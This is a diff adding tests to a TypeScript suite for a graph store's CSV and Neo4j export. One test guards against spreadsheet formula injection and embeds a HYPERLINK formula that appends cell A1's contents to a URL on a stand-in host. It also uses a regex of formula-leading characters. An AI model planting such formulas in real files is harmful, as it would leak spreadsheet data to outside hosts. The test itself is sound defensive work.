@@ -91,6 +91,36 @@ describe('csv', () => {
     }
   })
 
+  test('asks the store for many actors together', async () => {
+    const asked: (readonly string[])[] = []
+    const watched: Store = {
+      ...store,
+      actorsWithIds: (ids) => {
+        asked.push(ids)
+        return store.actorsWithIds(ids)
+      },
+      actor: () => Promise.reject(new Error('one by one')),
+    }
+    await Array.fromAsync(exportGraph(await sourceOfStore(watched, {}), 'cypher'))
+    expect(asked.map((ids) => ids.length)).toEqual([(await store.view({})).nodes.length])
+  })
+
+  test('holds no formula that a spreadsheet would work out; what Neo4j imports stays as it is', async () => {
+    const words = '=HYPERLINK("https://example.org/?"&A1;"more")'
+    const made = await openStore({ engine: 'embedded', folder: join(folder, 'formulas') })
+    const about = { title: '+1 for peace', publisher: '@paper', publishedAt: '2025-03-07' }
+    await made.save([article('-1', [`met: [Lavrov] <met> [Martin].`, `said: [NATO] <told> {${words} [EU]}.`], about)])
+    const source = await sourceOfStore(made, {})
+    const [, ...rows] = csv((await Array.fromAsync(exportGraph(source, 'csv'))).join(''))
+    const fields = rows.flat()
+    expect(fields).toContain(`'${words} EU`)
+    expect(fields).toEqual(expect.arrayContaining(["'+1 for peace", "'@paper", "'-1"]))
+    expect(fields.filter((field) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(field))).toEqual([])
+    const imported = csv((await Array.fromAsync(neo4jFiles['articles.csv'](source))).join(''))
+    expect(imported[1]?.slice(0, 3)).toEqual(['-1', '+1 for peace', '@paper'])
+    await made.close()
+  })
+
   test.each<[ViewQuery, number]>([
     [{ acts: ['rejected'] }, 1],
     [{ acts: ['said'] }, 3],
